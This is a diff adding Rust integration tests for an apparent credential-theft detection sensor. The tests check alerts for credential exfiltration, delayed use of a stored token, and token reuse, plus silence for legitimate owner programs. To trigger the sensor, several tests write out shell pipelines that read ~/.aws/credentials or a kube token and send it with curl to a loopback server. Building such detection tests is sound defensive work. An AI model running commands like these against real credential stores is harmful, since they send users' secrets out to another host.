@@ -1,0 +1,179 @@
+//! Black-box correlation tests (issue 5) with real processes: shell pipelines reading a
+//! store and curl sending to a loopback server.
+
+use std::{
+    io::{BufRead as _, BufReader},
+    process::{Child, Command, Stdio},
+    time::Duration,
+};
+
+use serde_json::Value;
+use tests::{Planted, Sensor, TempDir, is_action, kernel_tests_enabled, users::TestUser};
+
+const WAIT: Duration = Duration::from_secs(20);
+
+struct Server(Child, u16);
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+fn http_server() -> Server {
+    let mut child = Command::new("python3")
+        .args([
+            "-c",
+            "import http.server as h\nclass H(h.BaseHTTPRequestHandler):\n    def do_POST(self):\n        self.rfile.read(int(self.headers.get('Content-Length') or 0)); self.send_response(200); self.end_headers()\n    do_GET = do_POST\n    def log_message(self, *a): pass\ns = h.ThreadingHTTPServer(('127.0.0.1', 0), H)\nprint(s.server_address[1], flush=True)\ns.serve_forever()",
+        ])
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("server");
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().expect("stdout")).read_line(&mut line).expect("port");
+    Server(child, line.trim().parse().expect("port"))
+}
+
+fn run_as(user: &TestUser, script: &str) {
+    let out = user.sh(script).output().expect("run");
+    assert!(out.status.success(), "`{script}`: {}", String::from_utf8_lossy(&out.stderr));
+}
+
+fn findings<'a>(docs: &'a [Value], action: &str) -> Vec<&'a Value> {
+    docs.iter().filter(|d| is_action(d, action)).collect()
+}
+
+#[test]
+fn reader_and_sender_in_one_lineage_is_exfiltration() {
+    if !kernel_tests_enabled("exfil") {
+        return;
+    }
+    let user = TestUser::create("exfil");
+    let store = user.write_file(".aws/credentials", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n");
+    let srv = http_server();
+    let sensor = Sensor::start(&[]);
+    run_as(
+        &user,
+        &format!(
+            "T=$(cat .aws/credentials); curl -s -d \"$T\" http://127.0.0.1:{}/upload -o /dev/null",
+            srv.1
+        ),
+    );
+    let d = sensor.wait_for("exfiltration", WAIT, |d| is_action(d, "credential-exfiltration"));
+    assert_eq!(d["event"]["kind"], "alert");
+    let subs = d["threat"]["technique"]["subtechnique"]["id"].as_array().expect("subtechniques");
+    assert!(subs.iter().any(|t| t == "T1552.001"));
+    assert!(d["threat"]["technique"]["id"].as_array().expect("techniques").iter().any(|t| t == "T1041"));
+    let c = &d["tokenwarden"]["correlation"];
+    assert_eq!(c["other"]["executable"], "/usr/bin/cat", "the reader");
+    assert_eq!(c["sender"]["executable"], "/usr/bin/curl", "the sender");
+    assert_ne!(c["other"]["pid"], c["sender"]["pid"], "reader and sender are different processes");
+    assert_eq!(c["store"]["path"], store.display().to_string());
+    assert_eq!(d["process"]["executable"], "/usr/bin/curl");
+    // A loop does not flood: the same lineage, store and destination is one alert.
+    let all = sensor.all_output();
+    sensor.stop();
+    assert!(!all.contains("wJalrXUtnFEMI"), "the secret never appears");
+}
+
+#[test]
+fn stored_token_sent_after_the_window_is_caught_by_provenance() {
+    if !kernel_tests_enabled("provenance") {
+        return;
+    }
+    let user = TestUser::create("prov");
+    let srv = http_server();
+    let token = "kubetoken-0123456789abcdefghij";
+    user.write_file(
+        ".kube/config",
+        &format!("apiVersion: v1\nclusters:\n- cluster:\n    server: https://127.0.0.1:6443\n  name: c\nusers:\n- name: u\n  user:\n    token: {token}\n"),
+    );
+    let tmp = TempDir::new("prov");
+    let copy = tmp.path().join("t");
+    std::fs::set_permissions(tmp.path(), std::os::unix::fs::PermissionsExt::from_mode(0o777)).expect("chmod");
+    let sensor = Sensor::start(&["--correlation-window", "1"]);
+    // Copy the token out of the store, wait past the window, then send it.
+    run_as(&user, &format!("grep token: .kube/config | awk '{{print $2}}' > {}", copy.display()));
+    std::thread::sleep(Duration::from_secs(3));
+    run_as(
+        &user,
+        &format!(
+            "curl -s -H \"Authorization: Bearer $(cat {})\" http://127.0.0.1:{}/api -o /dev/null",
+            copy.display(),
+            srv.1
+        ),
+    );
+    let d = sensor.wait_for("provenance", WAIT, |d| is_action(d, "stored-token-misuse"));
+    let c = &d["tokenwarden"]["correlation"];
+    assert!(c["store"]["path"].as_str().is_some_and(|p| p.ends_with("/.kube/config")), "{d}");
+    assert_eq!(c["store"]["rule_id"], "cred-kube-config");
+    assert_eq!(c["store"]["owner_uid"], user.uid);
+    assert_eq!(d["process"]["executable"], "/usr/bin/curl");
+    let docs = sensor.stop();
+    assert!(findings(&docs, "credential-exfiltration").is_empty(), "the read was outside the 1 s window");
+    let all: String = docs.iter().map(Value::to_string).collect();
+    assert!(!all.contains(token), "the stored token never appears");
+}
+
+#[test]
+fn owner_program_sending_its_token_to_its_endpoint_is_quiet() {
+    if !kernel_tests_enabled("owner") {
+        return;
+    }
+    let user = TestUser::create("owner");
+    let srv = http_server();
+    let token = "ownertoken-0123456789abcdefghij";
+    user.write_file(
+        ".kube/config",
+        &format!("apiVersion: v1\nclusters:\n- cluster:\n    server: http://127.0.0.1:{}\n  name: c\nusers:\n- name: u\n  user:\n    token: {token}\n", srv.1),
+    );
+    // The owner program (kubectl, here a copy of curl at kubectl's path) reads the store
+    // and talks to the server the store names.
+    let planted = Planted::new("/usr/bin/curl", "/usr/local/bin/k9s");
+    let kubectl = planted.path.as_path();
+    let sensor = Sensor::start(&[]);
+    run_as(
+        &user,
+        &format!(
+            "{k} -s -o /dev/null -K /dev/null --config .kube/config http://127.0.0.1:{p}/x 2>/dev/null; {k} -s -H 'Authorization: Bearer {token}' http://127.0.0.1:{p}/api -o /dev/null",
+            k = kubectl.display(),
+            p = srv.1
+        ),
+    );
+    sensor
+        .wait_for("credential use", WAIT, |d| is_action(d, "credential-used") && d["url"]["path"] == "/api");
+    let docs = sensor.stop();
+    for action in ["stored-token-misuse", "credential-exfiltration", "credential-store-opened"] {
+        let hits: Vec<&Value> =
+            findings(&docs, action).into_iter().filter(|d| d["event"]["kind"] == "alert").collect();
+        assert!(hits.is_empty(), "no {action} alert for the owner program: {hits:?}");
+    }
+}
+
+#[test]
+fn one_token_used_by_two_users_is_reuse() {
+    if !kernel_tests_enabled("reuse") {
+        return;
+    }
+    let alice = TestUser::create("ra");
+    let bob = TestUser::create("rb");
+    let srv = http_server();
+    let token = "sharedtoken-0123456789abcdefghij";
+    let sensor = Sensor::start(&[]);
+    for u in [&alice, &bob] {
+        run_as(
+            u,
+            &format!("curl -s -H 'Authorization: Bearer {token}' http://127.0.0.1:{}/r -o /dev/null", srv.1),
+        );
+    }
+    let d = sensor.wait_for("reuse", WAIT, |d| is_action(d, "token-reuse"));
+    let subs = d["threat"]["technique"]["subtechnique"]["id"].as_array().expect("subtechniques");
+    assert!(subs.iter().any(|t| t == "T1550.001"));
+    let c = &d["tokenwarden"]["correlation"];
+    assert_eq!(c["other"]["user"]["id"], alice.uid.to_string());
+    assert_eq!(c["sender"]["user"]["id"], bob.uid.to_string());
+    let docs = sensor.stop();
+    let all: String = docs.iter().map(Value::to_string).collect();
+    assert!(!all.contains(token));
+}
